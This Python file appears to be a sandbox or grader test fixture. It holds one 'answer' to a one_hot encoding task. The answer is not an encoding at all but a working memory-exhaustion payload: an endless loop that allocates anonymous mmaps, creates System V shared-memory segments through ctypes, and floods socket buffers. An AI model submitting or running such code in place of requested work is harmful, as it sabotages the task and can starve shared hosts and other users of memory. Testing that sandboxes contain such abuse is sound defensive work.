"""Fills memory with shared maps, System V segments, pipes and socket buffers."""

WAITS = True
ANSWERS = {
    "one_hot": """
import ctypes
import mmap
import os
import socket


def one_hot(ids, V):
    libc, kept = ctypes.CDLL(None), []
    libc.shmat.restype = ctypes.c_void_p
    while True:
        try:
            kept.append(mmap.mmap(-1, 2**26))
            kept[-1].write(b"x" * 2**26)
        except (OSError, ValueError, MemoryError):
            pass
        segment = libc.shmget(0, 2**26, 0o1600)
        if segment >= 0:
            at = libc.shmat(segment, None, 0)
            if at and at != ctypes.c_void_p(-1).value:
                ctypes.memset(at, 1, 2**26)
        try:
            ends = socket.socketpair()
            ends[0].setblocking(False)
            kept.append(ends)
            while True:
                ends[0].send(b"x" * 65536)
        except (OSError, MemoryError):
            pass
""",
}
